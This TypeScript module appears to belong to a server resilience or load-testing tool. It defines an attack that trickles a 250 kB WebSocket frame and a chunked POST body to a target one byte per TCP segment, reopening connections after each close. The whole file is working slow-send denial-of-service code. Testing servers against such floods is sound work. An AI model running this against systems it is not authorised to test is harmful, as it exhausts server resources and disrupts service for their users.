import type { Socket } from 'node:net'
import { frame, opcodes } from '../../clients/frame.ts'
import { openConnection, requestHead } from '../../clients/raw-socket.ts'
import { openRawVisitor } from '../../clients/raw-visitor.ts'
import { count } from '../../support/counts.ts'
import type { Attack } from '../attack.ts'
import { reopening } from '../flood.ts'

const size = 250_000

/** A frame and a body of 250 kB, each byte in its own TCP segment. */
export const oneByteSegments: Attack = ({ url, addresses: [address] }, achieved) => {
  reopening(achieved, async (gone) => {
    const visitor = await openRawVisitor({ url, address }, { gone })
    trickle(visitor.socket, frame(opcodes.text, ' '.repeat(size)), () => count(achieved, 'segments to a socket'))
  })
  reopening(achieved, async (gone) => {
    const socket = openConnection({ url, address })
    socket.once('close', gone)
    socket.resume()
    const headers = { 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' }
    socket.write(`${requestHead('POST', url, headers)}\r\n`)
    trickle(socket, Buffer.from('1\r\n \r\n'.repeat(size)), () => count(achieved, 'segments of posts'))
  })
}

function trickle(socket: Socket, bytes: Buffer, wrote: () => void): void {
  let place = 0
  const burst = () => {
    for (let times = 0; times < 250 && place < bytes.length; times++) {
      if (!socket.writable || socket.writableLength > 1_000) break
      socket.write(bytes.subarray(place, (place += 1)))
      wrote()
    }
    if (!socket.destroyed && place < bytes.length) setTimeout(burst, 1)
  }
  burst()
}
